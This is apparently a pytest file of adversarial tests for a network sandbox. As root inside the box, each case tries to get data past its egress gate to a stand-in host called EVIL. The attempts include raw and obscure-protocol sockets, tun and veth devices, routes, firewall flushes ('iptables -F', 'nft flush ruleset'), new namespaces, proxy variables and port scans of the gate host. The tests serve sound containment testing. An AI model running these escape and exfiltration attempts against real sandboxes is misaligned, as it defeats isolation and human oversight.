"""Ways round the gate, not through it: as root of the box, from every family of sockets to pid 1.

None of them needs the gate to misjudge anything. What must hold is the box itself: its network namespace
leads nowhere but to the gate's listeners, and nothing in it reaches what lies outside. The same attacks, with
the rights of a pid 1 that was taken, are in ``test_taken_init.py``.
"""

from typing import Final

import pytest

from box_policy.policy.reasons import Reason
from tests.adversary.arena import Arena, ids
from tests.adversary.attack import Attack
from tests.adversary.kernel_attacks import attacks
from tests.adversary.wire import http
from tests.lab import plan

pytestmark = pytest.mark.asyncio(loop_scope="module")

GROUP = "Isolation: ways round the gate"


def _denied(count: int) -> tuple[Reason, ...]:
    return (Reason.NAME_NOT_ALLOWED,) * count


_OPEN: Final = "allow-all"

ATTACKS = [
    Attack(
        name="datagrams to everywhere", act=attacks("datagrams()\nresult = 'sent'"), sees="sent", reasons=()
    ),
    Attack(
        name="packets made by hand",
        act=attacks("packets()\nresult = 'sent'"),
        sees="sent",
        reasons=(),
    ),
    Attack(
        name="transport protocols that nobody remembers",
        act=attacks(
            """
for protocol in (33, 40, 41, 46, 47, 50, 51, 89, 94, 103, 108, 112, 115, 132, 136, 137, 143, 256):
    for where in (EVIL, EVIL6, GATE):
        for kind in (1, 2, 3, 4, 5, 6):
            def send():
                sock = opened(family(where), kind, protocol, timeout=0.2)
                attempt(sock.connect, (where, 443))
                sock.send(NONCE)
            attempt(send)
result = "sent"
"""
        ),
        sees="sent",
        reasons=(),
    ),
    Attack(
        name="Multipath TCP",
        act=attacks("result = together(says(to, protocol=262) for to in (EVIL, EVIL6))"),
        sees="alert 49",
        reasons=_denied(2),
    ),
    Attack(
        name="marks, interfaces, source addresses and routes of the box's choice",
        act=attacks(
            """
level = socket.SOL_SOCKET
choices = [(level, 36, mark) for mark in (1, 0x1337, -1)]
choices += [(level, 25, name) for name in (b"lo", b"eth0", b"gate0", b"docker0")]
choices += [(0, 19, 1), (0, 15, 1), (level, 5, 1), (level, 12, 7), (level, 15, 1), (0, 1, 0x10)]
choices += [(0, 4, bytes([131, 7, 4]) + packed(GATE) + b"\\0")]
ends = []
for choice in choices:
    ends.append(says(prepare=lambda sock: attempt(sock.setsockopt, *choice)))
for source in (GATE, EVIL, "127.0.0.1", "10.0.2.15"):
    def choose(sock):
        attempt(sock.setsockopt, 0, 15, 1)
        attempt(sock.bind, (source, 0))
    ends.append(says(prepare=choose))
result = together(ends)
"""
        ),
        sees="ENETUNREACH, alert 49",
        reasons=_denied(16),
    ),
    Attack(
        name="from the gate's own port number",
        act=attacks(
            """
def choose(sock):
    sock.setsockopt(1, 2, 1)
    attempt(sock.bind, ("10.0.2.15", port))
ends = []
for port in (61001, 61053):
    ends.append(says(prepare=choose))
result = together(ends)
"""
        ),
        sees="alert 49",
        reasons=_denied(2),
    ),
    Attack(
        name="as every user that a firewall could spare",
        act=attacks(
            """
for user in (0, 1, 65534, 1000, 1337, 13, 100, 65535, 12345):
    def become():
        attempt(os.setgid, user)
        attempt(os.setuid, user)
        says()
        datagrams((EVIL,), (443,))
    in_child(become)
result = "sent"
"""
        ),
        sees="sent",
        reasons=_denied(9),
    ),
    Attack(
        name="variables that name a proxy, or none",
        act=attacks(
            """
import urllib.error, urllib.request
ends = []
for name, value in (("NO_PROXY", "*"), ("http_proxy", "http://%s:8080"), ("ALL_PROXY", "socks5://%s")):
    os.environ[name] = value.replace("%s", EVIL)
    try:
        urllib.request.urlopen("http://%s/%s" % (EVIL, NONCE.decode()), timeout=2)
    except urllib.error.HTTPError as error:
        ends.append(str(error.code))
    except OSError as error:
        ends.append(type(error).__name__)
    del os.environ[name]
result = together(ends)
"""
        ),
        sees="403",
    ),
    Attack(
        name="interfaces, addresses and routes of its own",
        act=attacks(
            """
import fcntl
attempt(os.mknod, "/tmp/tun", 0o20666, os.makedev(10, 200))
for path in ("/tmp/tun", "/dev/net/tun"):
    def tunnel():
        device = os.open(path, os.O_RDWR)
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"tun0", 0x1001))
        os.write(device, udp("10.0.2.15", EVIL, 443, NONCE))
    attempt(tunnel)
peer = attribute(1, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(3, "veth1"))
remote = [attribute(1, struct.pack("=I", 7)), attribute(2, packed(EVIL))]
for name, kind, data in (("veth0", "veth", [peer]), ("br0", "bridge", []), ("dummy0", "dummy", []),
                         ("vx0", "vxlan", remote), ("mac0", "macvlan", [])):
    def lead():
        index = add_link(name, kind, *data)
        attempt(add_address, "10.9.%d.1" % index, index)
        for table in (2, 10):
            attempt(add_default_route, index, table)
        datagrams((EVIL, EVIL6, GATE))
        packets()
        says(timeout=0.1)
    attempt(lead)
for address in (EVIL, GATE, EVIL6, GATE6):
    attempt(add_address, address)
ends = [says(timeout=0.2)]
packets()
result = together(ends)
"""
        ),
        sees="alert 49",
        reasons=_denied(1),
    ),
    Attack(
        name="rules flushed, dropped and added",
        act=attacks(
            """
for act in (flush_rules, lambda: drop_rules("box"), lambda: redirect_rules(443, to=9)):
    attempt(act)
datagrams((EVIL, EVIL6, GATE))
result = together(says(to, timeout=0.2) for to in (EVIL, EVIL6))
"""
        ),
        sees="alert 49",
        reasons=_denied(2),
    ),
    Attack(
        name="namespaces of its own",
        act=attacks(
            """
def go():
    says(timeout=0.1)
    datagrams((EVIL, GATE), (443,))
for kinds in (NEW_USER | NEW_NET, NEW_NET, NEW_USER | 0x20000, 0x20000000, 0x2000000):
    in_child(lambda: attempt(call, "unshare", kinds) == "done" and go())
result = "tried"
"""
        ),
        sees="tried",
        reasons=(),
    ),
    Attack(
        name="whatever listens in the box, spoken to directly",
        act=attacks(
            """
ends = []
for table, address in (("tcp", "127.0.0.1"), ("tcp6", "::1")):
    for line in open("/proc/net/" + table).readlines()[1:]:
        if line.split()[3] == "0A":
            port = int(line.split()[1].split(":")[1], 16)
            for data in (HELLO, b"GET /%s HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n" % NONCE, NONCE * 4):
                ends.append(says(address, port, data))
result = together(ends)
"""
        ),
        sees="the end",
        reasons=(Reason.QUESTION_INVALID,) * 6 + (Reason.SPECIAL_ADDRESS,) * 6,
    ),
    Attack(
        name="the ports of what listens in the box, taken",
        act=attacks(
            """
taken = 0
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for address in ("127.0.0.1", "0.0.0.0", "10.0.2.15", "::1", "::", "::ffff:127.0.0.1", EVIL):
        for port in (61001, 61053, 443, 53):
            sock = opened(family(address), kind)
            for option in (2, 15):
                sock.setsockopt(1, option, 1)
            attempt(sock.setsockopt, 0, 15, 1)
            if attempt(sock.bind, (address, port)) == "done" and kind == socket.SOCK_STREAM:
                attempt(sock.listen)
result = together(says(to) for to in (EVIL, EVIL6))
"""
        ),
        sees="alert 49",
        reasons=_denied(2),
    ),
    Attack(
        name="connections ended from within, and made again",
        act=attacks(
            """
ends = []
for protocol, states in ((6, 0xFFF), (17, 0xFFFFFFFF)):
    for version in (2, 10):
        attempt(destroy_sockets, version, protocol, states)
# Connection tracking: everything forgotten, and a connection that never was.
attempt(talk, NETFILTER, message(0x102, 5, struct.pack("=BBH", 2, 0, 0)))
result = says(timeout=1)
"""
        ),
        sees="alert 49",
        reasons=_denied(1),
    ),
    Attack(
        name="programs with more rights than their caller",
        act=attacks(
            """
import shutil, subprocess
for command in ("ping -c1 -W1 %s", "ping6 -c1 -W1 %s", "traceroute -w1 -m1 %s", "mtr -c1 %s", "arping -c1 %s",
                "nft flush ruleset", "iptables -F", "ip link set lo down"):
    program, *arguments = command.replace("%s", EVIL).split()
    if shutil.which(program):
        try:
            subprocess.run([program] + arguments, timeout=3, stdin=-3, stdout=-3, stderr=-3)
        except (OSError, subprocess.TimeoutExpired):
            pass
result = says()
"""
        ),
        sees="alert 49",
        reasons=_denied(1),
    ),
    Attack(
        name="the gate's host, port by port",
        policy=_OPEN,
        act=attacks(
            """
PORTS = (22, 53, 80, 111, 443, 2375, 2376, 3128, 5432, 6379, 6443, 8080, 8081, 9090, 9100, 9418, 10250, 15001)
ends = []
for address in (GATE, GATE6, "127.0.0.1", "::1", "0.0.0.0", "10.0.2.2", "10.0.2.15", "172.17.0.1"):
    for port in PORTS:
        if port != 53:
            ends.append(says(address, port, b"GET /%s HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n" % NONCE))
result = together(ends)
"""
        ),
        sees="ECONNREFUSED, the end",
        reasons=(Reason.SPECIAL_ADDRESS,) * 4 * 17,
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=ids(ATTACKS))
async def test_attack(arena: Arena, attack: Attack) -> None:
    await arena.contains(attack)


async def test_http_that_nobody_takes_over(arena: Arena, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(_: object) -> None:
        raise RuntimeError("no room")

    inmate = await arena.inmate()
    arena.begin(inmate)
    monkeypatch.setattr(arena.gate.lane, "hand_over", fails)
    assert str(await http(plan.ALLOWED4, b"allowed.test")(inmate.attacker)) == "reset"
    await arena.rest(inmate)
    assert arena.denials() == [Reason.INTERNAL_ERROR]
    arena.errors.clear()
